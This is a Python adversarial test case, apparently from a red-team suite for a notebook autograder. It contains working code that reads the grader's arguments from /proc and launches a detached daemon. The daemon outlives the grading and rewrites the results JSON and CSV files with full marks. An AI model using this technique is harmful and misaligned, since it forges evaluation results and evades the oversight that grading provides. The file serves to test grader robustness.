"""Forged results: a setsid daemon outlives the grading and rewrites its final outputs.

Attack: read the ancestors' command lines in /proc (``gradelib grade ... --results FILE``,
``gradelib grade-all ... --csv FILE --results-dir DIR``), start a daemon in a new session (so a
kill of the grading's process group misses it), wait for those ancestors to exit, then rewrite
the results file, this student's CSV row and results-dir file with full marks. The daemon is
named with the case's marker and exits after 120 s at the latest (damage bound).
Old grader: see BASELINE.md (expected: full marks in the final files, daemon outlives grading).
"""
EXPECT = {"max_score": 0, "doors": ["grade", "grade_all", "nbgrader"], "place": "end", "leaves_no_trace": [],
          "settle": 5}  # the harness reads the outputs 5 s after the grader exits

import os as _os
import subprocess as _subprocess
import sys as _sys

MARKER = "__ADV_MARKER__"

_DAEMON = r'''
import csv, json, os, sys, time
marker, submission, pids, files = sys.argv[1], sys.argv[2], sys.argv[3].split(","), sys.argv[4:]
deadline = time.time() + 120
while time.time() < deadline and any(os.path.exists(f"/proc/{p}") for p in pids if p):
    time.sleep(0.2)
time.sleep(1)
def full(path):
    try:
        data = json.load(open(path))
    except (OSError, ValueError):
        return
    for t in data.get("tests", []):
        t["score"], t["status"], t["output"] = t["max_score"], "passed", ""
    data["score"] = data.get("max_score", 0)
    json.dump(data, open(path, "w"))
for kind_path in files:
    kind, path = kind_path.split("=", 1)
    if kind == "results":
        full(path)
    elif kind == "resultsdir":
        for name in os.listdir(path) if os.path.isdir(path) else []:
            if name.endswith(".json") and os.path.basename(os.path.dirname(submission)) in name:
                full(os.path.join(path, name))
    elif kind == "csv":
        try:
            rows = list(csv.DictReader(open(path)))
        except OSError:
            continue
        for row in rows:
            if row["notebook"] == submission:
                row["score"] = row["max_score"] or "62"
                row["tests_passed"] = row["tests_total"]
        if rows:
            with open(path, "w", newline="") as s:
                w = csv.DictWriter(s, fieldnames=list(rows[0]))
                w.writeheader(); w.writerows(rows)
time.sleep(max(0, min(5, deadline - time.time())))
'''


def _argv(pid):
    try:
        return open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except OSError:
        return []


def _parent(pid):
    try:
        return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


if not getattr(_sys, "_adv_daemon", False) and "--submission" in _sys.argv:
    _sys._adv_daemon = True
    _submission = _sys.argv[_sys.argv.index("--submission") + 1]
    _files, _pids, _pid = [], [], _parent(_os.getpid())
    while _pid > 1:
        _a = _argv(_pid)
        for _flag, _kind in (("--results", "results"), ("--csv", "csv"), ("--results-dir", "resultsdir")):
            if _flag in _a:
                _files.append(f"{_kind}={_os.path.abspath(_a[_a.index(_flag) + 1])}")
                _pids.append(str(_pid))
        _pid = _parent(_pid)
    if _files:
        _subprocess.Popen(
            [_sys.executable, "-c", _DAEMON, MARKER, _submission, ",".join(_pids), *_files],
            start_new_session=True, stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
        )
